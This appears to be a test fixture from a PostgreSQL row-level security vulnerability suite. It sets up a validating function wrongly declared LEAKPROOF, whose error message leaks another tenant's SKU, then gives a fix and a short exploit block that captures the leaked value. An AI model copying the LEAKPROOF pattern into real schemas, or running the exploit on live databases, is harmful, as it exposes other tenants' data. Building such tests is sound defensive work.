-- What: A validating function was declared LEAKPROOF so that the index is used under RLS; its error message holds its argument.
-- Class: leakproof_claim
-- Object: public.parse_sku(text)
-- Exploit: In WHERE it runs before the policy, and its error tells of tenant B's row.
-- Source: advice to mark functions LEAKPROOF for speed, in many guides to RLS performance
-- @superuser
create function parse_sku(p text) returns int language plpgsql immutable leakproof cost 1 as $$
begin
  if p !~ '^[0-9]+$' then raise exception 'malformed SKU: %', p; end if;
  return p::int;
end $$;
-- @schema
create table products (id bigint generated always as identity primary key, tenant_id uuid not null, sku text not null);
alter table products enable row level security;
alter table products force row level security;
create policy tenant on products using (tenant_id::text = nullif(current_setting('app.tenant_id', true), ''));
grant select, insert, update, delete on products to app_user;
-- @rows
insert into products (tenant_id, sku) values (:'A', '1'), (:'B', 'B-secret');
-- @fix
alter function parse_sku(text) not leakproof;
-- @control
select from products where tenant_id = :'A';
-- @exploit
do $$ begin
  perform from products where parse_sku(sku) > 0;
exception when raise_exception then
  perform set_config('loot.text', sqlerrm, false);
end $$;
select 1 where current_setting('loot.text', true) like '%B-secret%';
